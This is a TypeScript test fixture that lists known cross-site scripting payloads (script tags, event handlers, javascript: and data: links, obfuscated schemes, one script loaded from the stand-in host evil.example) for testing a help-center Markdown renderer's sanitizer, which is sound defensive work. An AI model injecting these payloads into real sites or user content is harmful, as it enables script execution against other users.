/**
 * Known XSS payloads an article's Markdown may hold: script tags, javascript:/vbscript:/data:
 * links, event handlers, SVG, iframes, styles. Shared by the renderer's unit test
 * (tests/unit/kb-markdown.test.ts) and the editor's preview in the browser (e2e/ui/help-center.spec.ts).
 */
export const xssPayloads = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  '<img src=x onerror="alert(1)">',
  "<svg onload=alert(1)><circle r=10 /></svg>",
  '<svg><script>alert(1)</script></svg>',
  "<iframe src=javascript:alert(1)></iframe>",
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<a href="javascript:alert(1)">click</a>',
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](java&#x09;script:alert(1))",
  "[click](vbscript:msgbox(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  '![x](https://example.test/a.png "x\\" onerror=\\"alert(1)")',
  "<details open ontoggle=alert(1)>",
  '<div style="background:url(javascript:alert(1))">x</div>',
  "<style>body{background:url(javascript:alert(1))}</style>",
  '<form action="javascript:alert(1)"><button>go</button></form>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<base href=javascript:alert(1)//>",
  "[a](<javascript:alert(1)>)",
  "<<script>script>alert(1)<</script>/script>",
  "```html\n<script>alert(1)</script>\n```",
];
